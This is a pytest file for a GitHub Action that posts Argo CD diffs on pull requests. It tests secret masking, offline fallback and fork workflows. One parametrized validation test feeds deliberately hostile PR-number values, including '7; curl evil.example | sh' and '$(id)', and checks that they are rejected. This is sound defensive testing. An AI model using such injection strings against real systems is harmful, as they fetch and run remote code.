"""The action's entrypoint run as the runner runs it: `argodiff pr` with the inputs as
`INPUT_*` variables (hyphens kept), the GITHUB_* variables and file commands, a real git
checkout, the Argo CD simulator over HTTP and a mocked GitHub API."""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import responses
from requests import PreparedRequest

from argodiff.cli import main
from argodiff.command import run
from tests.action.files import ACTION, DOCKERFILE, load_yaml, workflow
from tests.actions_step import StepFiles, read_outputs
from tests.conftest import GitOpsRepo
from tests.fixture_repo import REPO_URL
from tests.simulator import Access, Simulator

REPOSITORY = "example/lolice"  # the fixture Applications' repoURL
NUMBER = 7
GITHUB_TOKEN = "ghs_actionTOKENvalue0123456789abcdef"
CF_ID = "0c0ffee.access"
CF_SECRET = "cf-s3cret-0123456789abcdef"

Reply = tuple[int, dict[str, str], str]


@dataclass
class GitHubApi:
    """The pull request's files and comments, answered through `responses` on :443."""

    head_sha: str
    base_sha: str
    files: list[str]
    comments: list[dict[str, Any]] = field(default_factory=list)
    posted: list[str] = field(default_factory=list)
    calls: int = 0
    post_status: int = 201
    """Answer every new comment with this status (a 5xx: GitHub failing)."""

    def register(self, rsps: responses.RequestsMock) -> None:
        repo = re.escape(f"https://api.github.com:443/repos/{REPOSITORY}")
        q = r"(\?.*)?$"
        routes = (
            ("GET", f"{repo}/pulls/{NUMBER}{q}", self._pull),
            ("GET", f"{repo}/pulls/{NUMBER}/files{q}", self._files),
            ("GET", f"{repo}/issues/{NUMBER}/comments{q}", self._comments),
            ("POST", f"{repo}/issues/{NUMBER}/comments{q}", self._create),
            ("GET", re.escape("https://api.github.com:443/user") + q, self._user),
        )
        for method, pattern, handler in routes:
            rsps.add_callback(method, re.compile(pattern), callback=handler)

    def _json(self, status: int, body: object) -> Reply:
        self.calls += 1
        return status, {"Content-Type": "application/json"}, json.dumps(body)

    def _pull(self, request: PreparedRequest) -> Reply:
        side = {"repo": {"full_name": REPOSITORY}}
        return self._json(
            200,
            {
                "number": NUMBER,
                "changed_files": len(self.files),
                "head": {"sha": self.head_sha, "ref": "web-bump", **side},
                "base": {"sha": self.base_sha, "ref": "main", **side},
            },
        )

    def _files(self, request: PreparedRequest) -> Reply:
        return self._json(200, [{"filename": f, "status": "modified"} for f in self.files])

    def _comments(self, request: PreparedRequest) -> Reply:
        return self._json(200, self.comments)

    def _create(self, request: PreparedRequest) -> Reply:
        if self.post_status != 201:
            return self._json(self.post_status, {"message": "Server Error"})
        body = json.loads(request.body or "{}")["body"]
        self.posted.append(body)
        bot = {"login": "github-actions[bot]", "type": "Bot"}
        comment = {"id": 100 + len(self.posted), "body": body, "user": bot}
        self.comments.append(comment)
        return self._json(201, comment)

    def _user(self, request: PreparedRequest) -> Reply:
        # GITHUB_TOKEN cannot read /user.
        return self._json(403, {"message": "Resource not accessible by integration"})


@dataclass
class Step:
    """One action step's outcome, as the runner would see it."""

    exit_code: int
    log: str
    """stdout and stderr, as the job log shows them."""
    outputs: dict[str, str]
    summary: str
    results: dict[str, Any] | None


@dataclass
class Runner:
    """Sets up a workspace and the step's environment like the Actions runner does."""

    workspace: Path
    home: Path
    monkeypatch: pytest.MonkeyPatch
    capsys: pytest.CaptureFixture[str]

    def env(self, event_name: str, event: dict[str, Any], inputs: dict[str, str]) -> None:
        for name in ("ARGOCD_SERVER", "ARGOCD_AUTH_TOKEN", "ARGOCD_APP_NAMESPACE", "GITHUB_TOKEN",
                     "CF_ACCESS_CLIENT_ID", "CF_ACCESS_CLIENT_SECRET", "GITHUB_REF"):  # fmt: skip
            self.monkeypatch.delenv(name, raising=False)
        files = StepFiles.create(self.home, event)
        sha = run_git(self.workspace, "rev-parse", "HEAD")
        variables = files.environ(
            event_name=event_name, repository=REPOSITORY, sha=sha, workspace=self.workspace
        )
        variables |= {
            "GITHUB_API_URL": "https://api.github.com",
            "GITHUB_SERVER_URL": "https://github.com",
            "HOME": str(self.home),
        }
        variables.update(action_inputs(inputs))
        for key, value in variables.items():
            self.monkeypatch.setenv(key, value)
        # The runner starts the container in the workspace.
        self.monkeypatch.chdir(self.workspace)

    def run(self) -> Step:
        self.monkeypatch.setattr(sys, "argv", entrypoint_argv())
        self.capsys.readouterr()
        with pytest.raises(SystemExit) as exit_info:
            main()
        code = exit_info.value.code
        captured = self.capsys.readouterr()
        outputs = read_outputs(self.home / "output")
        results_path = (
            self.workspace / outputs["results-file"] if "results-file" in outputs else None
        )
        results = (
            json.loads(results_path.read_text(encoding="utf-8"))
            if results_path and results_path.is_file()
            else None
        )
        return Step(
            exit_code=code if isinstance(code, int) else (0 if code is None else 1),
            log=captured.out + captured.err,
            outputs=outputs,
            summary=(self.home / "summary").read_text(encoding="utf-8"),
            results=results,
        )


def run_git(repo: Path, *args: str) -> str:
    return run(["git", "-C", str(repo), *args]).stdout.decode().strip()


def entrypoint_argv() -> list[str]:
    """The container's command line: the Dockerfile ENTRYPOINT plus action.yml `runs.args`."""
    (entry,) = [ln for ln in DOCKERFILE.read_text().splitlines() if ln.startswith("ENTRYPOINT")]
    argv: list[str] = json.loads(entry.removeprefix("ENTRYPOINT"))
    return argv + [str(a) for a in load_yaml(ACTION)["runs"]["args"]]


def action_inputs(given: dict[str, str]) -> dict[str, str]:
    """`INPUT_<NAME>` for every declared input, as the runner sets them: the step's `with:`
    value, else the default; upper-cased, spaces to `_`, hyphens kept."""
    declared = load_yaml(ACTION)["inputs"]
    unknown = set(given) - set(declared)
    assert not unknown, f"not inputs of action.yml: {unknown}"
    env = {}
    for name, spec in declared.items():
        value = given.get(name, str(spec.get("default", "")))
        value = value.replace("${{ github.token }}", GITHUB_TOKEN)
        env["INPUT_" + name.replace(" ", "_").upper()] = value
    return env


def workflow_step_inputs(name: str, context: dict[str, str]) -> dict[str, str]:
    """The `with:` of the workflow's `uses: ./` step, each `${{ expr }}` replaced from
    `context` (e.g. `secrets.ARGOCD_AUTH_TOKEN`), as the runner evaluates it."""
    (job,) = workflow(name)["jobs"].values()
    (step,) = [s for s in job["steps"] if s.get("uses") == "./"]

    def value(match: re.Match[str]) -> str:
        expr = match.group(1).strip()
        assert expr in context, f"{name}: no value for ${{{{ {expr} }}}} in this test"
        return context[expr]

    return {k: re.sub(r"\$\{\{(.*?)\}\}", value, str(v)) for k, v in step["with"].items()}


def pr_event(gitops: GitOpsRepo) -> dict[str, Any]:
    side = {"repo": {"full_name": REPOSITORY, "clone_url": REPO_URL}}
    pull = {
        "number": NUMBER,
        "head": {"sha": gitops.pr, "ref": "web-bump", **side},
        "base": {"sha": gitops.synced, "ref": "main", **side},
        "changed_files": 4,
        "draft": False,
    }
    return {"action": "synchronize", "number": NUMBER, "pull_request": pull,
            "repository": {"full_name": REPOSITORY}}  # fmt: skip


@pytest.fixture
def github(gitops_repo: GitOpsRepo) -> Iterator[GitHubApi]:
    files = run_git(
        gitops_repo.repo.path, "diff", "--name-only", gitops_repo.synced, gitops_repo.pr
    )
    api = GitHubApi(head_sha=gitops_repo.pr, base_sha=gitops_repo.synced, files=files.split())
    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
        # The Argo CD simulator is real HTTP on 127.0.0.1.
        rsps.add_passthru("http://127.0.0.1")
        api.register(rsps)
        yield api


@pytest.fixture
def runner(
    tmp_path: Path,
    gitops_repo: GitOpsRepo,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> Runner:
    """A checkout like actions/checkout's with fetch-depth 0: the PR head, full history,
    origin at the repository's GitHub URL."""
    workspace = tmp_path / "workspace"
    run(["git", "clone", "-q", str(gitops_repo.repo.path), str(workspace)])
    run_git(workspace, "remote", "set-url", "origin", REPO_URL)
    run_git(workspace, "checkout", "-q", "--detach", gitops_repo.pr)
    home = tmp_path / "home"
    home.mkdir()
    return Runner(workspace, home, monkeypatch, capsys)


def assert_no_secret(step: Step, *secrets: str) -> None:
    """No secret in the outputs, results, summary or log, except in the `::add-mask::` lines
    that tell the runner to hide it, and those come before anything else is printed."""
    lines = step.log.splitlines()
    masks = [ln for ln in lines if ln.startswith("::add-mask::")]
    assert lines[: len(masks)] == masks, "a line was printed before the secrets were masked"
    assert {f"::add-mask::{s}" for s in secrets} <= set(masks)
    log = "\n".join(lines[len(masks) :])
    seen = "\n".join([log, step.summary, json.dumps(step.outputs), json.dumps(step.results)])
    for secret in secrets:
        assert secret not in seen


def diff_workflow_inputs(
    sim: Simulator, apps: str = "", revision: str = "", pr: str = ""
) -> dict[str, str]:
    """argocd-diff.yaml's step inputs, with the repository's variables and secrets."""
    return workflow_step_inputs(
        "argocd-diff.yaml",
        {
            "vars.ARGOCD_SERVER_URL": sim.url,
            "secrets.ARGOCD_AUTH_TOKEN": sim.token,
            "secrets.ARGOCD_API_TOKEN_ID": CF_ID,
            "secrets.ARGOCD_API_TOKEN_SECRET": CF_SECRET,
            "inputs.apps": apps,
            "inputs.revision": revision,
            "inputs.pr": pr,
        },
    )


def test_pull_request_run_comments_and_sets_outputs(
    runner: Runner, sim: Simulator, github: GitHubApi, gitops_repo: GitOpsRepo
) -> None:
    sim.access = Access(CF_ID, CF_SECRET)
    runner.env("pull_request", pr_event(gitops_repo), diff_workflow_inputs(sim))
    step = runner.run()

    assert step.exit_code == 0, step.log
    assert step.outputs["has-diff"] == "true"
    assert json.loads(step.outputs["changed-apps"]) == ["web"]
    assert json.loads(step.outputs["error-apps"]) == []
    assert step.outputs["results-file"] == "argodiff-results.json"
    assert step.results is not None
    assert [a["name"] for a in step.results["apps"]] == ["web"]

    assert len(github.posted) == 1, step.log
    (body,) = github.posted
    assert body.startswith("<!-- argodiff:127.0.0.1 ")
    assert "web" in body and "nginx:1.28" in body
    assert "web" in step.summary
    # Argo CD rendered the PR head: the revision from the event reached the manifests call,
    # through Cloudflare Access with the service token from the hyphenated inputs.
    manifests = sim.log.all("manifests", "web")
    assert manifests and all(r.query.get("revision") == [gitops_repo.pr] for r in manifests)
    assert all(r.headers.get("cf-access-client-id") == CF_ID for r in sim.log.all())
    assert_no_secret(step, sim.token, CF_SECRET, GITHUB_TOKEN)
    for secret in (sim.token, CF_SECRET, GITHUB_TOKEN):
        assert secret not in body


def test_when_github_keeps_failing_the_report_is_still_in_the_summary(
    runner: Runner, sim: Simulator, github: GitHubApi, gitops_repo: GitOpsRepo
) -> None:
    github.post_status = 502
    runner.env("pull_request", pr_event(gitops_repo), diff_workflow_inputs(sim))
    step = runner.run()

    assert step.exit_code == 0, step.log
    assert github.posted == []
    assert "the PR comment was not posted" in step.log
    assert "the PR comment was not posted" in step.summary
    assert "nginx:1.28" in step.summary  # the whole report, diff included
    assert step.results is not None and step.results["apps"][0]["status"] == "changed"
    assert "Traceback" not in step.log


def test_without_a_server_it_says_so_and_compares_offline(
    runner: Runner, github: GitHubApi, gitops_repo: GitOpsRepo
) -> None:
    runner.env("pull_request", pr_event(gitops_repo), {})  # every input at its default
    step = runner.run()

    assert step.exit_code == 0, step.log
    assert "no Argo CD server is configured" in step.log
    assert "OFFLINE" in step.log
    assert step.outputs["has-diff"] == "true"
    assert json.loads(step.outputs["changed-apps"]) == ["web"]
    assert len(github.posted) == 1, step.log
    (body,) = github.posted
    assert "OFFLINE" in body.upper()


def test_without_a_server_and_no_fallback_it_fails_clearly(
    runner: Runner, github: GitHubApi, gitops_repo: GitOpsRepo
) -> None:
    runner.env("pull_request", pr_event(gitops_repo), {"fallback": "none"})
    step = runner.run()

    assert step.exit_code == 2
    assert "argocd-server" in step.log
    assert "Traceback" not in step.log
    assert github.posted == []


def test_a_server_without_a_token_is_named_and_compared_offline(
    runner: Runner, sim: Simulator, github: GitHubApi, gitops_repo: GitOpsRepo
) -> None:
    runner.env("pull_request", pr_event(gitops_repo), {"argocd-server": sim.url})
    step = runner.run()

    assert step.exit_code == 0, step.log
    assert "argocd-auth-token" in step.log and "OFFLINE" in step.summary
    assert sim.log.all() == []  # Argo CD was never asked without a token


def test_half_a_cloudflare_service_token_is_refused_clearly(
    runner: Runner, sim: Simulator, github: GitHubApi, gitops_repo: GitOpsRepo
) -> None:
    inputs = {
        "argocd-server": sim.url,
        "argocd-auth-token": sim.token,
        "cf-access-client-id": CF_ID,
    }
    runner.env("pull_request", pr_event(gitops_repo), inputs)
    step = runner.run()

    assert step.exit_code == 2
    assert "cf-access-client-id and cf-access-client-secret go together" in step.log
    assert "Traceback" not in step.log and github.posted == []


def test_workflow_dispatch_diffs_the_named_apps_and_comments_on_the_given_pr(
    runner: Runner, sim: Simulator, github: GitHubApi, gitops_repo: GitOpsRepo
) -> None:
    inputs = {"apps": "web,db", "revision": "", "pr": str(NUMBER)}
    event = {"inputs": inputs, "ref": "refs/heads/main"}
    runner.env("workflow_dispatch", event, diff_workflow_inputs(sim, **inputs))
    step = runner.run()

    assert step.exit_code == 0, step.log
    assert json.loads(step.outputs["changed-apps"]) == ["web"]
    assert step.results is not None
    assert sorted(a["name"] for a in step.results["apps"]) == ["db", "web"]
    assert len(github.posted) == 1, step.log
    (body,) = github.posted
    assert "nginx:1.28" in body
    assert_no_secret(step, sim.token, GITHUB_TOKEN)


def fork_event(gitops: GitOpsRepo) -> dict[str, Any]:
    event = pr_event(gitops)
    event["pull_request"]["head"]["repo"] = {"full_name": "mallory/lolice"}
    return event


def test_fork_pr_step_compares_offline_without_secrets_or_github(
    runner: Runner, github: GitHubApi, gitops_repo: GitOpsRepo
) -> None:
    """argocd-diff-fork.yaml's step as written: no secrets, no token, nothing posted."""
    inputs = workflow_step_inputs("argocd-diff-fork.yaml", {})
    runner.env("pull_request", fork_event(gitops_repo), inputs)
    step = runner.run()

    assert step.exit_code == 0, step.log
    assert step.outputs["has-diff"] == "true"
    assert json.loads(step.outputs["changed-apps"]) == ["web"]
    assert step.results is not None
    assert [a["name"] for a in step.results["apps"]] == ["web"]
    assert (runner.workspace / inputs["results-file"]).is_file()
    assert github.posted == []
    assert github.calls == 0, "the fork step must not talk to GitHub"


def report_step(name: str) -> dict[str, Any]:
    (job,) = workflow("argocd-diff-report.yaml")["jobs"].values()
    (step,) = [s for s in job["steps"] if s.get("name") == name]
    assert isinstance(step, dict)
    return step


@pytest.mark.parametrize(
    ("artifact", "accepted"),
    [("7\n", "7"), ("  42 ", "42"), ("7; curl evil.example | sh", None), ("0", None),
     ("", None), ("1e3", None), ("99999999999", None), ("$(id)", None)],
)  # fmt: skip
def test_report_workflow_accepts_only_a_plain_pr_number(
    tmp_path: Path, artifact: str, accepted: str | None
) -> None:
    """The fork's artifact is untrusted: its PR number is checked before anything uses it."""
    step = report_step("Check the PR number from the artifact")
    number_file = tmp_path / "argodiff-pr-number.txt"
    number_file.write_text(artifact, encoding="utf-8")
    output = tmp_path / "output"
    output.write_text("")
    env = {"PATH": "/usr/bin:/bin", "FILE": str(number_file), "GITHUB_OUTPUT": str(output)}
    # GitHub runs `run:` steps with `bash -e {0}` by default.
    result = subprocess.run(
        ["bash", "-e", "-c", step["run"]], env=env, capture_output=True, text=True, check=False
    )
    if accepted is None:
        assert result.returncode != 0
        assert "::error::" in result.stdout
        assert output.read_text() == ""
    else:
        assert result.returncode == 0, result.stderr
        assert read_outputs(output) == {"number": accepted}


def test_fork_report_step_posts_the_artifact_results(
    runner: Runner, github: GitHubApi, gitops_repo: GitOpsRepo, tmp_path: Path
) -> None:
    """Fork step 1 (render) then step 2 (argocd-diff-report.yaml's command line)."""
    runner.env(
        "pull_request", fork_event(gitops_repo), workflow_step_inputs("argocd-diff-fork.yaml", {})
    )
    rendered = runner.run()
    assert rendered.exit_code == 0, rendered.log
    results = runner.workspace / rendered.outputs["results-file"]

    step = report_step("Post the comment")
    run_env = {
        "GITHUB_TOKEN": GITHUB_TOKEN,
        "PR_NUMBER": str(NUMBER),
        "HEAD_SHA": gitops_repo.pr,
        "RESULTS": str(results),
    }
    assert set(step["env"]) == set(run_env)
    event = {
        "workflow_run": {"head_sha": gitops_repo.pr, "event": "pull_request", "pull_requests": []}
    }
    runner.env("workflow_run", event, {})
    for key, value in run_env.items():
        runner.monkeypatch.setenv(key, value)
    for key in [k for k in os.environ if k.startswith("INPUT_")]:
        runner.monkeypatch.delenv(key)  # a `run:` step has no action inputs
    argv = shlex.split(os.path.expandvars(step["run"]))
    runner.monkeypatch.setattr(sys, "argv", argv)
    with pytest.raises(SystemExit) as exit_info:
        main()

    assert exit_info.value.code in (0, 1)  # no error; 1 means "there is a diff"
    assert len(github.posted) == 1
    (body,) = github.posted
    assert "web" in body and "nginx:1.28" in body
    assert GITHUB_TOKEN not in body


def test_presentation_inputs_reach_the_comment(
    runner: Runner, sim: Simulator, github: GitHubApi, gitops_repo: GitOpsRepo
) -> None:
    inputs = diff_workflow_inputs(sim) | {
        "instance": "lolice-prod",
        "lang": "ja",
        "timeout": "",
        "concurrency": "2",
        "results-file": "out/diff.json",
    }
    (runner.workspace / "out").mkdir()
    runner.env("pull_request", pr_event(gitops_repo), inputs)
    step = runner.run()

    assert step.exit_code == 0, step.log
    assert step.outputs["results-file"] == "out/diff.json"
    assert step.results is not None
    (body,) = github.posted
    assert body.startswith("<!-- argodiff:lolice-prod part=1/1 -->")
    assert "Argo CD 差分" in body


def test_the_server_side_diff_input_reaches_argo_cd(
    runner: Runner, sim: Simulator, github: GitHubApi, gitops_repo: GitOpsRepo
) -> None:
    sim.access = Access(CF_ID, CF_SECRET)
    inputs = diff_workflow_inputs(sim) | {"server-side-diff": "always"}
    runner.env("pull_request", pr_event(gitops_repo), inputs)
    step = runner.run()

    assert step.exit_code == 0, step.log
    assert step.results is not None
    assert [a["diffMode"] for a in step.results["apps"]] == ["server-side"]
    calls = sim.log.all("server-side-diff", "web")
    assert calls and all(r.headers.get("cf-access-client-id") == CF_ID for r in calls)
    assert "nginx:1.28" in github.posted[0]
